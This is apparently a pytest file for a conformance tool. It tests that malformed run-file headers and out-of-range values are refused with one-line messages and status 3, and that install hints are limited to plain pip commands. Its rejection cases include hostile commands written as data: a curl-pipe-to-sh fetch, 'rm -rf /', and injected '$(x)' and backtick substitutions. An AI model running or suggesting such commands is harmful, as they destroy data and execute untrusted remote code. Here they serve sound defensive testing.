"""Headers and tables of who can seal a file: one sentence for each fault, status 3, and never a traceback."""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.support.cli import conformance
from tests.support.small_run import header, run_of, verdict
from xent_conformance.commands.line import EVIDENCE
from xent_conformance.discovery.framework import FRAMEWORKS
from xent_conformance.reports.html.report import render
from xent_conformance.reports.run import file
from xent_conformance.reports.run.file import read_run, write_run
from xent_conformance.reports.run.findings import findings
from xent_conformance.reports.run.header import INSTALL, check_header
from xent_conformance.reports.run.shape import Misshapen, parsed
from xent_conformance.reports.run.unusable import RunFileError

GAP = {"framework": "jax", "message": "it is not there", "install": "pip install jax"}

WRONG: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
    "missing": (lambda h: h.pop("selection"), "selection is missing"),
    "deeper": (lambda h: h["selection"].pop("profile"), "selection.profile is missing"),
    "a number for text": (lambda h: h.update(suite=3), "suite is '3', where text is to be"),
    "text for a number": (lambda h: h.update(planned={"torch": "4"}), "planned.torch is '4', where a whole"),
    "a truth for a number": (lambda h: h.update(planned={"torch": True}), "planned.torch is 'true'"),
    "a list for a table": (lambda h: h.update(clauses=[]), "clauses is '[]', where a table is to be"),
    "in a list": (lambda h: h["frameworks"][0].update(devices="cpu"), "frameworks[0].devices is 'cpu'"),
    "a level": (lambda h: h["clauses"]["1.1"].update(level="musu"), "clauses.1.1.level is 'musu'"),
    "time": (lambda h: h.update(created="soon"), "created is 'soon', where a time"),
    "endless": (lambda h: h.update(corpus="x" * 100_000), "corpus has 100,000 characters, more than 65,536"),
    "more than planned": (lambda h: h.update(finished={"torch": 9}), "finished.torch is 9, of 4 planned"),
    "no seconds": (
        lambda h: h["seconds"].update(total=-1.0),
        "seconds.total is '-1.0', where a number of sec",
    ),
    "a command": (
        lambda h: h.update(absent=[GAP | {"install": "curl -s http://example.org/x | sh"}]),
        "absent[0].install is 'curl -s http://example.org/x | sh', where `pip install NAME` is to be",
    ),
}


def _sealed(path: Path, change: Callable[[dict[str, Any]], Any]) -> Path:
    made = copy.deepcopy(header())
    change(made)
    write_run(path, run_of([verdict(status="breaks_must")], made))
    return path


@pytest.mark.parametrize("kind", WRONG)
def test_a_header_that_is_no_runs_is_refused_with_its_place(kind: str, tmp_path: Path) -> None:
    change, told = WRONG[kind]
    path = _sealed(tmp_path / "run.parquet", change)
    with pytest.raises(RunFileError) as refused:
        read_run(path)
    assert told in str(refused.value) and str(path) in str(refused.value)
    assert len(str(refused.value).splitlines()) == 1


@pytest.mark.parametrize("words", [["report"], ["gate", "--no-known"], ["causes"], ["waive", "-o", "-"]])
def test_every_command_refuses_it_with_status_3(words: list[str], tmp_path: Path) -> None:
    """And not 1, which says that a gate has failed."""
    path = _sealed(tmp_path / "run.parquet", lambda h: h.pop("frameworks"))
    verb, *rest = words
    told = conformance(verb, path, *rest, status=EVIDENCE).stderr
    assert "frameworks is missing" in told and "Traceback" not in told


def test_without_the_check_it_is_a_traceback(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The tests above can fail: this is what a reader would run into."""
    path = _sealed(tmp_path / "run.parquet", lambda h: h["frameworks"][0].pop("environment"))
    monkeypatch.setattr(file, "check_header", lambda _: None)
    run = read_run(path)
    with pytest.raises(KeyError):
        render(run, findings(run.verdicts))


def test_what_every_framework_says_to_install_is_let_pass() -> None:
    for framework in FRAMEWORKS.values():
        INSTALL(framework.install, "install")
    for told in (
        "conformance list devices",
        "/a/b/python -m pip install ml_dtypes",
        "'/a b/py' -m pip install x",
    ):
        INSTALL(told, "install")


@pytest.mark.parametrize(
    "told",
    ["rm -rf /", "pip install x; rm -rf /", "pip install $(x)", "x\npip install y", "`x` -m pip install y",
     "pip install x\n", "pip install x>y",
     "pip install --index-url http://example.org x", "'a'; b -m pip install c"],
)  # fmt: skip
def test_no_other_command_is_shown_to_be_typed(told: str) -> None:
    with pytest.raises(Misshapen):
        INSTALL(told, "install")


def test_the_header_of_a_small_run_is_one() -> None:
    check_header(header(absent=[GAP], not_installed=[GAP]))


@pytest.mark.parametrize("depth", [10, 100_000])
def test_json_that_is_nested_without_end_is_refused(depth: int) -> None:
    with pytest.raises(ValueError, match=r"where a table|nested too deep"):
        parsed("[" * depth + "]" * depth)


# --- tables ---


@pytest.mark.parametrize(
    ("changes", "told"),
    [
        ({"exponent": 2**31 - 1}, "has exponent 2147483647, which no run gives"),
        ({"exponent": -(2**31)}, "has exponent -2147483648, which no run gives"),
        ({"n": -1}, "has n -1"),
        ({"index": None}, "has index None"),
        ({"hi": None}, "has no hi"),
        ({"lo": float("nan")}, "has lo nan beside a finite hi"),
        ({"message": None}, "has no message"),
        ({"message": "x" * 20_000}, "has a message of more than 16,384 bytes"),
        ({"cause": "0-is-nan"}, "has the cause '0-is-nan' of a fault, and none is charged"),
    ],
    ids=lambda v: str(v)[:40],
)
def test_a_value_out_of_all_measure_is_refused(changes: dict[str, Any], told: str, tmp_path: Path) -> None:
    """A decimal of 2 to the power 2147483647 took 47 minutes."""
    path = tmp_path / "run.parquet"
    write_run(path, run_of([verdict(), verdict(case="softmax/ordinary/spread1/float32/n3/r1", **changes)]))
    with pytest.raises(RunFileError) as refused:
        read_run(path)
    assert told in str(refused.value) and len(str(refused.value)) < 1000
